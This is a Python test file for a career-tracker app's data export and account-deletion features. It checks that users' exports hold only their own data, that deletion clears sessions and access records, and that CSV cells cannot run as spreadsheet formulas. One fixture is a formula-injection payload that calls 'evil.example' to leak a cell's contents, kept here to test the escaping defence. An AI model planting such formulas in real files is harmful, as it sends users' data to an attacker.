"""A person's data is theirs: /me/export.json, /me/export.csv and /settings/delete/."""

from __future__ import annotations

import csv
import io
import json
import logging

import pytest
from axes.models import AccessAttempt
from django.contrib.auth import get_user_model
from django.contrib.sessions.models import Session
from django.test import Client
from django.urls import reverse

from careers.models import Milestone, Region, Role, SalaryBand, Skill, Stage, StageSkill
from tests.factories import PASSWORD, MentorshipFactory, RegionFactory
from tests.tracker_helpers import RoleSetup, assert_queries, make_role, target
from tracker import feedback, services
from tracker.account_data import csv_cell
from tracker.models import (
    Goal,
    MilestoneProgress,
    Profile,
    ProgressEvent,
    SkillProgress,
    SkillStatus,
)

User = get_user_model()
JSON_URL = "/me/export.json"
CSV_URL = "/me/export.csv"
DELETE_URL = "/settings/delete/"

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
OUTSIDER_VALUES = [
    "outsider@example.com",
    "Outsider Display Name",
    "OUTSIDER-SECRET-NOTE",
    "https://outsider.example/proof",
    "Outsider Role",
    "outsider-role",
]


@pytest.fixture
def old_role(db) -> RoleSetup:
    """The role of the owner's old goal."""
    return make_role(name="Data Analyst", slug="data-analyst")


@pytest.fixture
def setup(owner, old_role):
    """The owner: a region, an old goal and an active one, skills and milestones with notes."""
    setup = make_role(name="ML Engineer", slug="ml-engineer")
    Profile.objects.update_or_create(
        user=owner,
        defaults={"display_name": "Ana", "region": RegionFactory.create(name="Seattle, WA")},
    )
    target(owner, old_role.entry)
    target(owner, setup.senior)
    python, torch = setup.skills["python"], setup.skills["torch"]
    services.skill_set_status(user=owner, skill_id=python.pk, status=SkillStatus.DONE)
    services.skill_set_status(user=owner, skill_id=torch.pk, status=SkillStatus.LEARNING)
    services.skill_save_note(
        user=owner, skill_id=python.pk, note=HYPERLINK, evidence_url="https://github.com/ana/proj"
    )
    services.skill_save_note(user=owner, skill_id=torch.pk, note="@SUM(A1:A9)", evidence_url="")
    portfolio = setup.milestones["portfolio"]
    services.milestone_set_done(user=owner, milestone_id=portfolio.pk, done=True)
    services.milestone_save_note(user=owner, milestone_id=portfolio.pk, note="+1", evidence_url="")
    # A skill of the old role only: its row names that role.
    services.skill_set_status(user=owner, skill_id=old_role.skills["algebra"].pk, status="learning")
    return setup


@pytest.fixture
def outsider(other_user):
    """Someone else, with data of every kind that must never show in the owner's files."""
    role = make_role(name="Outsider Role", slug="outsider-role")
    other_user.email = "outsider@example.com"
    other_user.save()
    Profile.objects.update_or_create(
        user=other_user, defaults={"display_name": "Outsider Display Name"}
    )
    target(other_user, role.mid)
    skill = role.skills["python"]
    services.skill_set_status(user=other_user, skill_id=skill.pk, status=SkillStatus.DONE)
    services.skill_save_note(
        user=other_user,
        skill_id=skill.pk,
        note="OUTSIDER-SECRET-NOTE",
        evidence_url="https://outsider.example/proof",
    )
    milestone = role.milestones["portfolio"]
    services.milestone_set_done(user=other_user, milestone_id=milestone.pk, done=True)
    services.milestone_save_note(
        user=other_user, milestone_id=milestone.pk, note="OUTSIDER-SECRET-NOTE", evidence_url=""
    )
    return other_user


def test_it_has_named_urls():
    assert reverse("tracker:export_json") == JSON_URL
    assert reverse("tracker:export_csv") == CSV_URL
    assert reverse("tracker:account_delete") == DELETE_URL


@pytest.mark.parametrize(
    "method,url",
    [("get", JSON_URL), ("get", CSV_URL), ("get", DELETE_URL), ("post", DELETE_URL)],
)
def test_it_sends_anonymous_visitors_to_log_in(client, db, method, url):
    response = getattr(client, method)(url)

    assert response.status_code == 302
    assert response["Location"] == f"/accounts/login/?next={url}"


@pytest.mark.parametrize("url", [JSON_URL, CSV_URL])
def test_it_only_answers_get_for_the_exports(owner_client, url):
    assert owner_client.post(url).status_code == 405


# --- JSON ---------------------------------------------------------------------------------------


def test_it_exports_all_of_the_persons_data_as_an_attachment(owner_client, owner, setup):
    response = owner_client.get(JSON_URL)

    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"] == 'attachment; filename="pathwise-data.json"'
    assert "no-store" in response["Cache-Control"]
    data = json.loads(response.content)
    assert (data["format"], data["format_version"]) == ("pathwise-export", 3)
    assert data["account"]["username"] == "owner"
    assert data["account"]["email"] == "owner@example.com"
    assert data["account"]["date_joined"] == owner.date_joined.isoformat()
    assert data["profile"] == {
        "display_name": "Ana",
        "region": {"name": "Seattle, WA", "slug": Region.objects.get().slug},
    }
    goals = {(g["role"]["slug"], g["target_stage"]["title"], g["is_active"]) for g in data["goals"]}
    assert goals == {
        ("ml-engineer", "Senior engineer", True),
        ("data-analyst", "Junior engineer", False),
    }
    assert all(g["created_at"] for g in data["goals"])
    skills = {row["skill"]["slug"]: row for row in data["skill_progress"]}
    python = skills[setup.skills["python"].slug]
    assert python["skill"]["name"] == setup.skills["python"].name
    assert python["status"] == "done"
    assert python["completed_at"] is not None
    assert python["note"] == HYPERLINK
    assert python["evidence_url"] == "https://github.com/ana/proj"
    torch = skills[setup.skills["torch"].slug]
    assert (torch["status"], torch["note"]) == ("learning", "@SUM(A1:A9)")
    assert torch["started_at"] is not None
    [milestone] = data["milestone_progress"]
    # Milestones are one list for the whole catalog: a slug names one.
    portfolio = setup.milestones["portfolio"]
    assert milestone["milestone"] == {"title": portfolio.title, "slug": portfolio.slug}
    assert (milestone["status"], milestone["note"]) == ("done", "+1")
    assert len(data["events"]) == ProgressEvent.objects.filter(user=owner).count() == 9
    assert {e["kind"] for e in data["events"]} == {"goal", "skill", "milestone", "note"}
    assert {e["milestone"] for e in data["events"] if e["milestone"]} == {portfolio.slug}


def test_it_puts_nothing_of_anyone_else_in_the_json(owner_client, setup, outsider):
    text = owner_client.get(JSON_URL).content.decode()

    for value in OUTSIDER_VALUES:
        assert value not in text
    assert ProgressEvent.objects.filter(user=outsider).count() == 5
    assert len(json.loads(text)["events"]) == 9


def test_it_exports_empty_lists_for_a_new_account(client, db):
    from tests.factories import UserFactory

    client.force_login(UserFactory.create(username="newcomer"))

    data = client.get(JSON_URL).json()

    assert data["profile"] == {"display_name": "", "region": None}
    for key in ("goals", "skill_progress", "milestone_progress", "events"):
        assert data[key] == []


def test_it_runs_seven_queries_with_the_session_for_the_json_however_much_data(
    owner_client, owner, setup
):
    # 1 session with the user (or the user alone when Redis sits in front of the session table,
    # cached_db), 2 profile with region, 3 goals with roles and stages, 4 skill progress with
    # skills, 5 milestone progress with roles and stages, 6 events with skills and milestones,
    # 7 mentors' comments with their authors' names and items.
    queries = 7
    with assert_queries(queries):
        owner_client.get(JSON_URL)

    relation = MentorshipFactory.create(person=owner)
    for skill in Skill.objects.all():
        services.skill_set_status(user=owner, skill_id=skill.pk, status="done")
        feedback.comment_add(mentorship=relation, item=("skill", skill.pk), text="Well done.")

    with assert_queries(queries):
        owner_client.get(JSON_URL)


# --- CSV ----------------------------------------------------------------------------------------


def csv_rows(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_it_exports_the_progress_as_csv(owner_client, setup, old_role):
    response = owner_client.get(CSV_URL)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="pathwise-progress.csv"'
    assert "no-store" in response["Cache-Control"]
    rows = {(r["kind"], r["item"]): r for r in csv_rows(response)}
    assert len(rows) == 4
    python = rows["skill", setup.skills["python"].name]
    assert (python["role"], python["stage"], python["status"]) == (
        "ML Engineer",
        "Junior engineer",
        "done",
    )
    assert python["completed"].startswith("20")
    assert python["evidence"] == "https://github.com/ana/proj"
    algebra = rows["skill", old_role.skills["algebra"].name]
    assert (algebra["role"], algebra["status"]) == ("Data Analyst", "learning")
    assert algebra["started"] and not algebra["completed"]
    milestone = rows["milestone", setup.milestones["portfolio"].title]
    assert (milestone["role"], milestone["stage"], milestone["status"]) == (
        "ML Engineer",
        "Junior engineer",
        "done",
    )


def test_it_writes_a_csv_that_cannot_run_formulas_in_a_spreadsheet(owner_client, setup):
    rows = {(r["kind"], r["item"]): r for r in csv_rows(owner_client.get(CSV_URL))}

    assert rows["skill", setup.skills["python"].name]["note"] == "'" + HYPERLINK
    assert rows["skill", setup.skills["torch"].name]["note"] == "'@SUM(A1:A9)"
    assert rows["milestone", setup.milestones["portfolio"].title]["note"] == "'+1"


@pytest.mark.parametrize(
    "value,cell",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Chapter 3 = done", "Chapter 3 = done"),
        ("", ""),
        (None, ""),
    ],
)
def test_it_gives_a_cell_that_would_be_a_formula_a_leading_apostrophe(value, cell):
    assert csv_cell(value) == cell


def test_it_puts_nothing_of_anyone_else_in_the_csv(owner_client, setup, outsider):
    text = owner_client.get(CSV_URL).content.decode("utf-8-sig")

    for value in OUTSIDER_VALUES:
        assert value not in text
    assert len(csv_rows(owner_client.get(CSV_URL))) == 4


# --- Settings links -----------------------------------------------------------------------------


def test_it_links_the_exports_and_deletion_from_your_data_in_settings(owner_client):
    html = owner_client.get("/settings/").content.decode()
    section = html[html.index('id="your-data"') :]

    assert f'href="{JSON_URL}"' in section
    assert f'href="{CSV_URL}"' in section
    assert f'href="{DELETE_URL}"' in section


# --- Deleting the account -----------------------------------------------------------------------


def catalog_counts() -> dict[str, int]:
    models = (Role, Stage, Skill, StageSkill, Milestone, SalaryBand, Region)
    return {model.__name__: model.objects.count() for model in models}


def owned_rows(user_id: int) -> dict[str, int]:
    return {
        "profile": Profile.objects.filter(user_id=user_id).count(),
        "goals": Goal.objects.filter(user_id=user_id).count(),
        "skills": SkillProgress.objects.filter(user_id=user_id).count(),
        "milestones": MilestoneProgress.objects.filter(user_id=user_id).count(),
        "events": ProgressEvent.objects.filter(user_id=user_id).count(),
    }


def test_it_asks_for_the_password_before_deleting(owner_client, owner):
    response = owner_client.get(DELETE_URL)

    assert response.status_code == 200
    html = response.content.decode()
    assert "<h1>Delete your account</h1>" in html
    assert '<label for="id_password">Your password</label>' in html
    assert 'type="password"' in html
    assert 'autocomplete="current-password"' in html
    assert f'<form method="post" action="{DELETE_URL}"' in html
    assert User.objects.filter(pk=owner.pk).exists()


def test_it_deletes_nothing_on_a_wrong_password(owner_client, owner, setup):
    before = owned_rows(owner.pk)

    response = owner_client.post(DELETE_URL, {"password": "not-my-password"})

    assert response.status_code == 400
    html = response.content.decode()
    assert "That is not your password. Nothing was deleted." in html
    assert 'aria-invalid="true"' in html
    assert User.objects.filter(pk=owner.pk).exists()
    assert owned_rows(owner.pk) == before
    assert owner_client.get("/dashboard/").status_code == 200


def test_it_deletes_nothing_on_an_empty_password(owner_client, owner):
    response = owner_client.post(DELETE_URL, {"password": ""})

    assert response.status_code == 400
    assert User.objects.filter(pk=owner.pk).exists()


def test_it_deletes_the_person_their_data_and_every_session(owner, setup, outsider, caplog):
    caplog.set_level(logging.INFO, logger="pathwise")
    here, other_device, outsiders_device = Client(), Client(), Client()
    here.post("/accounts/login/", {"username": "owner", "password": PASSWORD})
    other_device.force_login(owner)
    outsiders_device.force_login(outsider)
    AccessAttempt.objects.create(username="owner", ip_address="127.0.0.1", failures_since_start=2)
    AccessAttempt.objects.create(
        username="outsider", ip_address="127.0.0.1", failures_since_start=2
    )
    this_session = here.cookies["sessionid"].value
    catalog = catalog_counts()
    outsiders = owned_rows(outsider.pk)
    assert all(owned_rows(owner.pk).values())

    response = here.post(DELETE_URL, {"password": PASSWORD})

    assert response.status_code == 303
    assert response["Location"] == "/"
    assert not User.objects.filter(pk=owner.pk).exists()
    assert owned_rows(owner.pk) == dict.fromkeys(owned_rows(owner.pk), 0)
    assert not Session.objects.filter(session_key=this_session).exists()
    assert not AccessAttempt.objects.filter(username="owner").exists()
    # Signed out here and on the other device; the message says what happened.
    assert "Your account and everything in it are deleted." in here.get("/").content.decode()
    assert here.get("/dashboard/").status_code == 302
    assert other_device.get("/dashboard/").status_code == 302
    # Everyone and everything else is as it was.
    assert catalog_counts() == catalog
    assert owned_rows(outsider.pk) == outsiders
    assert AccessAttempt.objects.filter(username="outsider").exists()
    assert outsiders_device.get("/dashboard/").status_code == 200
    assert f"account deleted user_id={owner.pk}" in caplog.text
    assert f"logout user_id={owner.pk}" in caplog.text


def test_it_only_answers_get_and_post_for_deletion(owner_client, owner):
    assert owner_client.put(DELETE_URL).status_code == 405
    assert User.objects.filter(pk=owner.pk).exists()
